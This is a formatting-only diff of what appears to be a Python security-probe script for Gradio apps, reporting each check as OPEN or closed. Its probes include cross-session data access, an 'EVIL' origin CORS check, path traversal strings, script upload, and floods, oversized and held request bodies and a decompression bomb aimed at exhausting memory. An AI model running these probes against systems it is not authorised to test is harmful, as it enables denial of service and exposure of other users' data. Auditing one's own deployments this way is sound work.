@@ -55,16 +55,22 @@ class Target:
     def __post_init__(self) -> None:
         config = httpx.get(f"{self.address}/config", timeout=60).json()
         self.components = {part["id"]: part for part in config["components"]}
-        self.events = {str(event["api_name"]): event for event in config["dependencies"] if event["backend_fn"]}
+        self.events = {
+            str(event["api_name"]): event for event in config["dependencies"] if event["backend_fn"]
+        }
 
     @contextmanager
     def client(self) -> Iterator[httpx.Client]:
         """A visitor with cookies of its own."""
-        with httpx.Client(base_url=self.address, timeout=60, headers={"connection": "close"}) as visitor:
+        with httpx.Client(
+            base_url=self.address, timeout=60, headers={"connection": "close"}
+        ) as visitor:
             visitor.get("/")
             yield visitor
 
-    def call(self, visitor: httpx.Client, event: Mapping[str, Any], data: list[Any], session: str) -> httpx.Response:
+    def call(
+        self, visitor: httpx.Client, event: Mapping[str, Any], data: list[Any], session: str
+    ) -> httpx.Response:
         """Call an event as the page would."""
         body = {"data": data, "fn_index": event["id"], "session_hash": session}
         return visitor.post("/gradio_api/run/predict", json=body)
@@ -94,7 +100,9 @@ def reached(target: Target, method: str, path: str, **more: Any) -> Seen:
     """Tell whether a route does its work for anybody."""
     with target.client() as visitor:
         answer = visitor.request(method, path, **more)
-    return Seen(answer.status_code not in CLOSED, f"{method} {path.split('?')[0]}: {answer.status_code}")
+    return Seen(
+        answer.status_code not in CLOSED, f"{method} {path.split('?')[0]}: {answer.status_code}"
+    )
 
 
 @probe
@@ -122,7 +130,10 @@ def foreign_reader(target: Target) -> Seen:
     """A page elsewhere may read the answers, with its visitors' cookies."""
     with target.client() as visitor:
         headers = {"origin": EVIL, "host": HOST, "access-control-request-method": "POST"}
-        answers = [visitor.get("/config", headers=headers), visitor.options("/gradio_api/run/predict", headers=headers)]
+        answers = [
+            visitor.get("/config", headers=headers),
+            visitor.options("/gradio_api/run/predict", headers=headers),
+        ]
     allowed = {answer.headers.get("access-control-allow-origin") for answer in answers}
     return Seen(bool(allowed & {EVIL, "*"}), f"allowed origins: {allowed}")
 
@@ -150,9 +161,16 @@ def state_of_another_session(target: Target) -> Seen:
     with target.client() as victim, target.client() as attacker:
         for event in target.events.values():
             target.call(victim, event, target.inputs(event, mark, "textbox"), session)
-        blind = [event for event in target.events.values() if "textbox" not in _kinds(target, event)]
-        told = [target.call(attacker, event, target.inputs(event, None), session).text for event in blind]
-    return Seen(any(mark in text for text in told), f"{len(told)} events called in a visitor's session")
+        blind = [
+            event for event in target.events.values() if "textbox" not in _kinds(target, event)
+        ]
+        told = [
+            target.call(attacker, event, target.inputs(event, None), session).text
+            for event in blind
+        ]
+    return Seen(
+        any(mark in text for text in told), f"{len(told)} events called in a visitor's session"
+    )
 
 
 @probe
@@ -161,11 +179,17 @@ def results_of_another_session(target: Target) -> Seen:
     session, mark = secrets.token_hex(8), secrets.token_hex(8)
     event = next(event for event in target.events.values() if "textbox" in _kinds(target, event))
     with target.client() as victim, target.client() as attacker:
-        body = {"data": target.inputs(event, mark, "textbox"), "fn_index": event["id"], "session_hash": session}
+        body = {
+            "data": target.inputs(event, mark, "textbox"),
+            "fn_index": event["id"],
+            "session_hash": session,
+        }
         joined = victim.post("/gradio_api/queue/join", json=body)
         if joined.status_code in CLOSED:
             return Seen(False, f"the queue: {joined.status_code}")
-        with attacker.stream("GET", "/gradio_api/queue/data", params={"session_hash": session}) as answer:
+        with attacker.stream(
+            "GET", "/gradio_api/queue/data", params={"session_hash": session}
+        ) as answer:
             for line in answer.iter_lines():
                 if "process_completed" in line or "unexpected_error" in line:
                     return Seen(answer.status_code == 200, f"another visitor's stream: {line[:60]}")
@@ -183,7 +207,9 @@ def full_queue(target: Target) -> Seen:
         event = next(iter(target.events.values()))
         body = {"data": target.inputs(event, None), "fn_index": event["id"]}
         codes = [
-            visitor.post("/gradio_api/queue/join", json={**body, "session_hash": f"q{number}"}).status_code
+            visitor.post(
+                "/gradio_api/queue/join", json={**body, "session_hash": f"q{number}"}
+            ).status_code
             for number in range(100)
         ]
     return Seen(codes.count(200) == len(codes), f"of 100 events {codes.count(200)} were taken")
@@ -198,13 +224,18 @@ def cancel_of_another_session(target: Target) -> Seen:
 @probe
 def end_of_another_session(target: Target) -> Seen:
     """Opening and closing a session's line marks its state for deletion."""
-    with target.client() as visitor, visitor.stream("GET", "/gradio_api/heartbeat/victim") as answer:
+    with (
+        target.client() as visitor,
+        visitor.stream("GET", "/gradio_api/heartbeat/victim") as answer,
+    ):
         return Seen(answer.status_code == 200, f"a line in a visitor's name: {answer.status_code}")
 
 
 @probe
 def upload_by_anybody(target: Target) -> Seen:
-    return reached(target, "POST", "/gradio_api/upload", files={"files": ("x.html", b"<script>1</script>")})
+    return reached(
+        target, "POST", "/gradio_api/upload", files={"files": ("x.html", b"<script>1</script>")}
+    )
 
 
 @probe
@@ -247,7 +278,11 @@ def large_call(target: Target) -> Seen:
     with target.client() as visitor:
         for sent in (content, pieces):
             try:
-                codes.append(visitor.post("/gradio_api/run/predict", content=sent, headers=headers).status_code)
+                codes.append(
+                    visitor.post(
+                        "/gradio_api/run/predict", content=sent, headers=headers
+                    ).status_code
+                )
             except httpx.TransportError:
                 codes.append(413)  # refused before all of it was sent
     return Seen(set(codes) != {413}, f"5 MB: {codes}")
@@ -258,7 +293,9 @@ def recording(target: Target) -> Seen:
     """Anybody has ffmpeg run on a file."""
     with target.client() as visitor:
         answer = visitor.post("/gradio_api/process_recording", files={"file": ("x.webm", b"x")})
-    return Seen(answer.status_code not in (403, 404, 405), f"POST process_recording: {answer.status_code}")
+    return Seen(
+        answer.status_code not in (403, 404, 405), f"POST process_recording: {answer.status_code}"
+    )
 
 
 @probe
@@ -266,7 +303,9 @@ def component_server(target: Target) -> Seen:
     body = {"session_hash": secrets.token_hex(8), "component_id": 1, "fn_name": "x", "data": ""}
     with target.client() as visitor:
         answer = visitor.post("/gradio_api/component_server", json=body)
-    return Seen(answer.status_code not in (403, 405), f"POST component_server: {answer.status_code}")
+    return Seen(
+        answer.status_code not in (403, 405), f"POST component_server: {answer.status_code}"
+    )
 
 
 @probe
@@ -289,7 +328,10 @@ def call_past_the_page(target: Target) -> Seen:
     """Events that are private are called by their name."""
     event = next(iter(target.events))
     return reached(
-        target, "POST", f"/gradio_api/call/{event}", json={"data": target.inputs(target.events[event], None)}
+        target,
+        "POST",
+        f"/gradio_api/call/{event}",
+        json={"data": target.inputs(target.events[event], None)},
     )
 
 
@@ -328,7 +370,12 @@ def files_by_their_path(target: Target) -> Seen:
                 "/static/..",
                 "/assets/../..",
             ):
-                for spelt in (str(path), path.name, f"../../../../..{path}", str(path).replace("/", "%2f")):
+                for spelt in (
+                    str(path),
+                    path.name,
+                    f"../../../../..{path}",
+                    str(path).replace("/", "%2f"),
+                ):
                     if target.canary in visitor.get(route + spelt).content:
                         return Seen(True, f"{path} under {route}")
     return Seen(False, f"{len(target.files)} files asked for")
@@ -351,7 +398,11 @@ def files_named_in_a_value(target: Target) -> Seen:
 
 def _served(text: str) -> list[str]:
     """Return the paths that an answer names."""
-    return [part for part in text.replace("\\", "").split('"') if part.startswith("/") and len(part) < 500]
+    return [
+        part
+        for part in text.replace("\\", "").split('"')
+        if part.startswith("/") and len(part) < 500
+    ]
 
 
 @probe
@@ -367,7 +418,10 @@ def security_headers(target: Target) -> Seen:
 def flood(target: Target) -> Seen:
     """One visitor may call as often as it can."""
     with target.client() as visitor:
-        codes = [visitor.post("/gradio_api/reset", json={"event_id": "x"}).status_code for _ in range(700)]
+        codes = [
+            visitor.post("/gradio_api/reset", json={"event_id": "x"}).status_code
+            for _ in range(700)
+        ]
     return Seen(429 not in codes, f"700 calls: {sorted(set(codes))}")
 
 
@@ -395,7 +449,9 @@ async def _bombed(target: Target, bomb: bytes, before: int) -> Seen:
     await asyncio.to_thread(_send_bomb, target, bomb)
     over.set()
     await watching
-    return Seen(top - before > 200_000_000, f"{len(bomb) / 1000:.0f} kB took {(top - before) / 1e6:.0f} MB")
+    return Seen(
+        top - before > 200_000_000, f"{len(bomb) / 1000:.0f} kB took {(top - before) / 1e6:.0f} MB"
+    )
 
 
 def _send_bomb(target: Target, bomb: bytes) -> None:
@@ -424,7 +480,9 @@ def invented_sessions(target: Target) -> Seen:
         for number in range(target.sessions):
             target.call(visitor, event, target.inputs(event, None), f"invented {number}")
         grown = target.memory() - before
-    return Seen(grown > 6_000 * target.sessions, f"{target.sessions} sessions took {grown / 1e6:.1f} MB")
+    return Seen(
+        grown > 6_000 * target.sessions, f"{target.sessions} sessions took {grown / 1e6:.1f} MB"
+    )
 
 
 @probe
@@ -452,7 +510,9 @@ def held_bodies(target: Target) -> Seen:
             lines.enter_context(_unfinished(target, path, HELD_BYTES + 1, part))
         time.sleep(1)
         grown = target.memory() - before
-    return Seen(grown > 100_000_000, f"{held} bodies of {HELD_BYTES / 1e6:.0f} MB took {grown / 1e6:.0f} MB")
+    return Seen(
+        grown > 100_000_000, f"{held} bodies of {HELD_BYTES / 1e6:.0f} MB took {grown / 1e6:.0f} MB"
+    )
 
 
 @contextmanager
@@ -473,5 +533,7 @@ def run_all(target: Target) -> dict[str, Seen]:
 
 
 if __name__ == "__main__":
-    for name, seen in run_all(Target(sys.argv[1], pid=int(sys.argv[2]) if len(sys.argv) > 2 else None)).items():
+    for name, seen in run_all(
+        Target(sys.argv[1], pid=int(sys.argv[2]) if len(sys.argv) > 2 else None)
+    ).items():
         print("OPEN  " if seen.open else "closed", name, "-", seen.what)
